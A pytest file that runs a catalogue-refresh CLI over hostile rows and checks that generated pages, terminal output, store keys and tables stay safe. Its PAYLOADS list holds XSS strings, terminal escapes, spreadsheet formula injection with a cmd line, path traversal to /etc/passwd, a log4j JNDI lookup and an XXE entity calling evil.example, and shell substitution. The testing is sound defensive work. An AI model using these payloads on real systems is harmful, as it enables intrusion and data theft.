"""Rows that attack whoever reads them: in every field, through a whole run, to pages, terminal, keys and tables.

A value is text wherever it goes. Pages hold no element that runs or fetches anything, the terminal gets no control
character, keys are plain, and the manifest holds the text as it was sent.
"""

import json
import os
import re
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from catalogs import layout
from infra.stores import open_store
from infra.tables import open_tables
from tests.fixtures.minimal_recipes import STUB_RECIPE
from tests.fixtures.refresh_harness import write_csv
from tests.paths import ROOT

PAYLOADS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title></style><svg onload=alert(1)>",
    "javascript:alert(1)", "<!--<iframe src=//evil.example>", "&lt;script&gt;&#60;script&#62;",
    "[a](javascript:alert(1)) ![b](//evil.example/x.png)", "https://evil.example www.evil.example a@evil.example",
    "`x` **y** | z |\n# h", "\x1b[31mred\x1b[2J", "\x1b]0;title\x07\x1b]8;;http://evil.example\x07link",
    "\x9b31m\x8d", "[bold red]rich[/] :warning:", "\u202egpj.exe", "\u2066a\u2069\u200b\u200f",
    '=HYPERLINK("http://evil.example")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "../../../../etc/passwd",
    "..\\..\\windows", "/etc/passwd", "CON", "nul.txt", "a\0b", "x" * 300, "y" * 3000,
    "{{ 7*7 }}{% raw %}{{ self }}", "%s%n${jndi:ldap://evil.example/a}", "$(id) `id` ; id",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "</x:xmpmeta><x:evil/>", "\ufdd0\uffff",
)  # fmt: skip
FIELDS = ("sku", "title", "category", "brand", "views", "prompt")

RECIPE = STUB_RECIPE | {
    "columns": {name: name for name in FIELDS},
    "optional": list(FIELDS[2:]),
    "tiers": {"standard": {"width": 64, "height": 64}},
    "defaults": {"template": "Photograph of {{ title }} {{ brand }}, {{ phrase }}", "views": ["front"]},
}
SAFE_KEY = re.compile(r"[A-Za-z0-9._=-]+(/[A-Za-z0-9._=-]+)*")
RUNS_OR_FETCHES = {"script", "iframe", "object", "embed", "base", "form", "link", "frame", "audio", "video", "applet"}


def attacking_rows() -> list[dict[str, str]]:
    rows = []
    for number, payload in enumerate(PAYLOADS):
        for field in FIELDS:
            plain = {"sku": f"{field}-{number}", "title": f"Thing {field} {number}"} | dict.fromkeys(FIELDS[2:], "")
            rows.append(plain | {field: payload})
    return rows


class Page(HTMLParser):
    """The elements and attributes of a page, as a browser's parser meets them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag] += 1
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, "subprocess.CompletedProcess[bytes]"]:
    """Return the folder of a shop whose catalogue attacks it, and what the refresh said."""
    folder = tmp_path_factory.mktemp("attacked")
    write_csv(folder / "catalogue.csv", attacking_rows())
    (folder / "recipe.yaml").write_text(json.dumps(RECIPE), "utf-8")
    words = ("refresh", folder / "catalogue.csv", "--store", folder / "store", "--recipe", folder / "recipe.yaml")
    command = [sys.executable, "-m", "flows.cli", *map(str, words), "--catalogue", "shop"]
    return folder, subprocess.run(
        command, cwd=ROOT, env=os.environ | {"COLUMNS": "200"}, capture_output=True, check=False
    )


@pytest.mark.slow
def test_a_run_over_hostile_rows_ends_and_accounts_for_each(attacked: Any) -> None:
    folder, said = attacked
    assert said.returncode in (0, 1), said.stderr.decode()
    assert b"Traceback" not in said.stderr
    report = read_report(folder)
    assert report["rows"]["input"] == len(PAYLOADS) * len(FIELDS)
    assert (
        report["rows"]["accepted"] + report["rows"]["rejected"] + report["rows"]["ignored"] == report["rows"]["input"]
    )
    assert report["slots"]["published"] + report["slots"]["review"] + report["slots"]["blocked"] > 100


def read_report(folder: Path) -> dict[str, Any]:
    (path,) = (folder / "store/runs").glob("*/report.json")
    report: dict[str, Any] = json.loads(path.read_text("utf-8"))
    return report


@pytest.mark.slow
def test_the_terminal_gets_no_control_character_and_no_turned_writing(attacked: Any) -> None:
    _, said = attacked
    for text in (said.stdout.decode(), said.stderr.decode()):
        found = re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)
        assert found == []


@pytest.mark.slow
@pytest.mark.parametrize("page", ["report.html", "audit/index.html"])
def test_a_page_runs_nothing_and_fetches_nothing(attacked: Any, page: str) -> None:
    folder, _ = attacked
    (path,) = (folder / "store/runs").glob(f"*/{page}")
    text = path.read_text("utf-8")
    found = Page(text)
    assert not RUNS_OR_FETCHES & found.elements.keys()
    assert [one for one in found.attributes if one[1].startswith("on") or one[1] in {"style", "srcdoc"}] == []
    beside = {
        "audit/index.html",
        "../report.html",
        "result.json",
    }  # opened by who asks for it
    addresses = [value for _, name, value in found.attributes if name in {"src", "href", "srcset", "action", "data"}]
    assert [one for one in addresses if not one.startswith(("data:image/jpeg;base64,", "#"))] == [
        one for one in addresses if one in beside
    ]
    (policy,) = [
        value for tag, name, value in found.attributes if (tag, name) == ("meta", "content") and "-src" in value
    ]
    assert policy.startswith("default-src 'none'; ")
    assert [value for tag, name, value in found.attributes if tag == "meta" and value.lower() == "refresh"] == []
    assert "\x1b" not in text
    if page == "report.html":
        assert found.elements["img"] > 10
        assert "&lt;script&gt;" in text


@pytest.mark.slow
def test_keys_are_plain_and_tables_keep_the_text_as_it_was_sent(attacked: Any) -> None:
    folder, _ = attacked
    store = open_store(str(folder / "store"))
    assert [info.key for info in store.list("") if SAFE_KEY.fullmatch(info.key) is None or ".." in info.key] == []
    manifest = open_tables(str(folder / "store")).read(layout.manifest_table("shop"), ["sku"])
    skus = set(manifest["sku"].to_pylist())
    assert {payload for payload in PAYLOADS if payload.isprintable() and len(payload) < 300} & skus
    assert '=HYPERLINK("http://evil.example")' in skus, "a reader who exports to a spreadsheet must escape it"
